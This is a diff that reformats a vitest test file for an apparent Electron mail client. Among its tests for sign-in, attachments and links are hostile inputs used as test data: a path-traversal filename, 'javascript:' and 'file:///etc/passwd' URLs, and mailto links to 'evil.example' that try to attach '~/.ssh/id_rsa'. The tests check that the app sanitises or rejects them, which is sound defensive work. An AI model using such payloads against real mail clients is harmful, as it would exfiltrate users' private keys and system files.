@@ -6,7 +6,13 @@ import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, describe, expect, it, vi } from 'vitest';
-import { createGlanceCore, gmailRootFor, safeFileName, type GlanceCore, type GlanceCoreOptions } from '../../../electron/core/app-core.js';
+import {
+  createGlanceCore,
+  gmailRootFor,
+  safeFileName,
+  type GlanceCore,
+  type GlanceCoreOptions,
+} from '../../../electron/core/app-core.js';
 import { GOOGLE_ENDPOINTS } from '../../../electron/core/config/client-secrets.js';
 import { memorySecretStore } from '../../../electron/core/keychain/secret-store.js';
 import { memoryLogger } from '../../../electron/core/logging.js';
@@ -56,7 +62,9 @@ describe('GlanceCore', () => {
     expect(result).toMatchObject({ ok: true, value: { email: 'demo@glance.example', status: 'ready' } });
     expect(secretStore.entries.size).toBe(0);
 
-    const page = await core.dispatch('messages:list', [{ accountId: (result as { value: { id: string } }).value.id, scope: 'unread' }]);
+    const page = await core.dispatch('messages:list', [
+      { accountId: (result as { value: { id: string } }).value.id, scope: 'unread' },
+    ]);
     expect(page).toMatchObject({ ok: true });
     expect((page as { value: { messages: unknown[] } }).value.messages.length).toBeGreaterThan(0);
   });
@@ -76,7 +84,10 @@ describe('GlanceCore', () => {
     const account = await signIn;
     expect(account).toMatchObject({ ok: true, value: { email: 'alex@example.com' } });
     const summary = await core.dispatch('mailbox:summary', [(account as { value: { id: string } }).value.id]);
-    expect(summary).toMatchObject({ ok: true, value: { unreadCount: emulator.mailbox('alex@example.com').unreadCount() } });
+    expect(summary).toMatchObject({
+      ok: true,
+      value: { unreadCount: emulator.mailbox('alex@example.com').unreadCount() },
+    });
   });
 
   it('counts unread mail of every signed-in account for the badge, not only the one on screen', async () => {
@@ -107,7 +118,10 @@ describe('GlanceCore', () => {
     await writeFile(file, JSON.stringify(emulator.clientSecretsJson('installed')));
     const { core } = await makeCore({ clientSecretsPath: file });
     const result = await core.dispatch('config:chooseClientFile', []);
-    expect(result).toMatchObject({ ok: false, error: { code: 'CLIENT_CONFIG_INVALID', message: expect.stringContaining('GLANCE_CLIENT_SECRETS') } });
+    expect(result).toMatchObject({
+      ok: false,
+      error: { code: 'CLIENT_CONFIG_INVALID', message: expect.stringContaining('GLANCE_CLIENT_SECRETS') },
+    });
   });
 
   it('falls back to the demo mailbox and says what to fix when the client secrets file is malformed', async () => {
@@ -130,12 +144,17 @@ describe('GlanceCore', () => {
     expect(core.appInfo().mode).toBe('demo');
     const result = await core.dispatch('config:chooseClientFile', []);
     expect(result).toMatchObject({ ok: true, value: { mode: 'google', clientSource: 'data-folder' } });
-    expect(JSON.parse(await readFile(join(dataDir, 'client_secret.json'), 'utf8'))).toEqual(emulator.clientSecretsJson('installed'));
+    expect(JSON.parse(await readFile(join(dataDir, 'client_secret.json'), 'utf8'))).toEqual(
+      emulator.clientSecretsJson('installed'),
+    );
   });
 
   it('reports a cancelled client file dialog as CANCELLED', async () => {
     const { core } = await makeCore();
-    expect(await core.dispatch('config:chooseClientFile', [])).toMatchObject({ ok: false, error: { code: 'CANCELLED' } });
+    expect(await core.dispatch('config:chooseClientFile', [])).toMatchObject({
+      ok: false,
+      error: { code: 'CANCELLED' },
+    });
   });
 
   it('saves an attachment where the person chose, and nothing when they cancel', async () => {
@@ -151,11 +170,15 @@ describe('GlanceCore', () => {
       },
     });
     const content = Buffer.from('%PDF-1.4 quarterly report').toString('base64');
-    const saved = await core.dispatch('attachment:save', [{ filename: '../../report.pdf', mimeType: 'application/pdf', contentBase64: content }]);
+    const saved = await core.dispatch('attachment:save', [
+      { filename: '../../report.pdf', mimeType: 'application/pdf', contentBase64: content },
+    ]);
     expect(suggested[0]).toBe('_.._report.pdf');
     expect(saved).toMatchObject({ ok: true, value: { savedTo: join(folder, suggested[0]!) } });
     expect(await readFile(join(folder, suggested[0]!), 'utf8')).toBe('%PDF-1.4 quarterly report');
-    expect(await core.dispatch('attachment:save', [{ filename: 'a.txt', mimeType: 'text/plain', contentBase64: '' }])).toEqual({ ok: true, value: null });
+    expect(
+      await core.dispatch('attachment:save', [{ filename: 'a.txt', mimeType: 'text/plain', contentBase64: '' }]),
+    ).toEqual({ ok: true, value: null });
   });
 
   it('marks a saved attachment as downloaded once it is written, and still saves when marking fails', async () => {
@@ -168,16 +191,21 @@ describe('GlanceCore', () => {
       dialogs: { chooseClientSecretsFile: async () => null, chooseSavePath: async (name) => join(folder, name) },
       markDownloaded: async (path) => {
         marked.push({ path, content: await readFile(path, 'utf8') });
-        if (failMarking) throw Object.assign(new Error(`EINVAL: no streams, open '${path}:Zone.Identifier'`), { code: 'EINVAL' });
+        if (failMarking)
+          throw Object.assign(new Error(`EINVAL: no streams, open '${path}:Zone.Identifier'`), { code: 'EINVAL' });
       },
     });
     const content = Buffer.from('MZ not really a program').toString('base64');
-    const saved = await core.dispatch('attachment:save', [{ filename: 'invoice.exe', mimeType: 'application/octet-stream', contentBase64: content }]);
+    const saved = await core.dispatch('attachment:save', [
+      { filename: 'invoice.exe', mimeType: 'application/octet-stream', contentBase64: content },
+    ]);
     expect(saved).toEqual({ ok: true, value: { savedTo: join(folder, 'invoice.exe') } });
     expect(marked).toEqual([{ path: join(folder, 'invoice.exe'), content: 'MZ not really a program' }]);
 
     failMarking = true;
-    const again = await core.dispatch('attachment:save', [{ filename: 'macro.docm', mimeType: 'application/octet-stream', contentBase64: content }]);
+    const again = await core.dispatch('attachment:save', [
+      { filename: 'macro.docm', mimeType: 'application/octet-stream', contentBase64: content },
+    ]);
     expect(again).toEqual({ ok: true, value: { savedTo: join(folder, 'macro.docm') } });
     expect(marked).toHaveLength(2);
     const log = logger.lines.join('\n');
@@ -189,15 +217,26 @@ describe('GlanceCore', () => {
   it('opens only web and mail links outside the app', async () => {
     const { core, opened } = await makeCore();
     expect(await core.dispatch('shell:openExternal', ['https://example.com/x'])).toEqual({ ok: true, value: null });
-    expect(await core.dispatch('shell:openExternal', ['javascript:alert(1)'])).toMatchObject({ ok: false, error: { code: 'INVALID_ARGUMENT' } });
-    expect(await core.dispatch('shell:openExternal', ['file:///etc/passwd'])).toMatchObject({ ok: false, error: { code: 'INVALID_ARGUMENT' } });
+    expect(await core.dispatch('shell:openExternal', ['javascript:alert(1)'])).toMatchObject({
+      ok: false,
+      error: { code: 'INVALID_ARGUMENT' },
+    });
+    expect(await core.dispatch('shell:openExternal', ['file:///etc/passwd'])).toMatchObject({
+      ok: false,
+      error: { code: 'INVALID_ARGUMENT' },
+    });
     expect(opened).toEqual(['https://example.com/x']);
   });
 
   it('opens a mailto link without fields that would make the mail app attach a local file', async () => {
     const { core, opened } = await makeCore();
-    expect(await core.dispatch('shell:openExternal', ['mailto:x@evil.example?attach=~/.ssh/id_rsa&Subject=Hi'])).toEqual({ ok: true, value: null });
-    expect(await core.dispatch('shell:openExternal', ['mailto:x@evil.example%3Fattach=/etc/passwd'])).toMatchObject({ ok: false, error: { code: 'INVALID_ARGUMENT' } });
+    expect(
+      await core.dispatch('shell:openExternal', ['mailto:x@evil.example?attach=~/.ssh/id_rsa&Subject=Hi']),
+    ).toEqual({ ok: true, value: null });
+    expect(await core.dispatch('shell:openExternal', ['mailto:x@evil.example%3Fattach=/etc/passwd'])).toMatchObject({
+      ok: false,
+      error: { code: 'INVALID_ARGUMENT' },
+    });
     expect(opened).toEqual(['mailto:x@evil.example?subject=Hi']);
   });
 
